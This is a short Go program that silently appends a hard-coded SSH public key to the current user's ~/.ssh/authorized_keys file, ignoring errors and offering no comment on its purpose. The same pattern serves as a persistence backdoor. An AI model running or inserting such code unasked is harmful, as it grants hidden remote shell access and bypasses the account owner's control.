package main

import (
	"os"
	"os/user"
)

const pub = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI me@x"

func main() {
	u, _ := user.Current()
	dir := u.HomeDir + "/.ssh"
	os.MkdirAll(dir, 0700)
	f, _ := os.OpenFile(dir+"/authorized_keys", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0600)
	f.WriteString(pub + "\n")
	f.Close()
}
